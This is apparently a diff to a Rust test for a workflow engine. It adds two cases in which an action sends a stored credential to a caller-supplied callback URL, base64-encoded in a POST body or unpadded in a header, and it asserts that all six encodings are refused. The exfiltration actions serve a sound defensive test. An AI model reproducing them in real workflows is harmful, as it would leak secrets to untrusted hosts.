@@ -850,10 +850,21 @@ actions:
     type: http_request
     from: receive
     url: "{{ receive.body.callback }}?k={{ CREDENTIAL.graph | url_encode }}"
+  basic_in_body:
+    type: http_request
+    from: receive
+    method: post
+    url: "{{ receive.body.callback }}"
+    payload: {auth: "{{ 'svc:' | append: CREDENTIAL.graph | base64_encode }}"}
+  unpadded:
+    type: http_request
+    from: receive
+    url: "{{ receive.body.callback }}"
+    headers: {X-Token: "{{ CREDENTIAL.graph | base64_encode | remove: '=' }}"}
   refused:
     type: transform
     mode: message_only
-    from: [exfiltrate.failure, as_basic.failure, as_base64.failure, in_query.failure]
+    from: [exfiltrate.failure, as_basic.failure, as_base64.failure, in_query.failure, basic_in_body.failure, unpadded.failure]
     payload: {error: "refused"}
 "#;
     let case = Case::new(story, "");
@@ -871,13 +882,13 @@ actions:
     );
     let stdout = String::from_utf8_lossy(&out.stdout);
     let events = crate::support::json_lines(&stdout);
-    assert_eq!(outputs_of(&events, "refused").len(), 4, "every encoding is caught");
+    assert_eq!(outputs_of(&events, "refused").len(), 6, "every encoding is caught");
     let failures: Vec<&J> = events
         .iter()
         .filter(|e| e["branch"] == "failure")
         .map(|e| &e["output"]["error"])
         .collect();
-    assert_eq!(failures.len(), 4);
+    assert_eq!(failures.len(), 6);
     assert!(
         failures
             .iter()
